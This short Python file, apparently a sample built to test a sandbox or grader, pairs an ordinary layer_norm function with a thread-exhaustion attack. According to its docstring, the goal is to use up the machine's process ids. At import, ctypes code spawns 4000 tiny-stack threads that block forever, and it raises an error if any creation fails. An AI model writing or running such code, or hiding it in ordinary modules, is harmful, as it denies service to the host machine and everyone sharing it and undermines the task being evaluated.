"""Goal: start thousands of threads with tiny stacks, until the machine has no process ids left.

At most: 0
Status: import_error, crashed, timeout
"""

import ctypes

import torch
from torch import nn

LIBC = ctypes.CDLL(None)
SIZES = ctypes.create_string_buffer(64)
LIBC.pthread_attr_init(SIZES)
LIBC.pthread_attr_setstacksize(SIZES, ctypes.c_size_t(16384))
LIBC.pthread_attr_setguardsize(SIZES, ctypes.c_size_t(0))
NEVER = ctypes.create_string_buffer(64)
LIBC.sem_init(NEVER, 0, 0)
WAIT = ctypes.cast(LIBC.sem_wait, ctypes.c_void_p)
for _ in range(4000):
    if LIBC.pthread_create(ctypes.byref(ctypes.c_ulong()), SIZES, WAIT, NEVER):
        # Without success there is nothing to earn.
        raise RuntimeError("no more threads")


def layer_norm(x, eps=1e-5):
    deviation = x - x.mean(-1, keepdim=True)
    return deviation / (deviation.square().mean(-1, keepdim=True) + eps).sqrt()


# And LayerNorm as it should be.
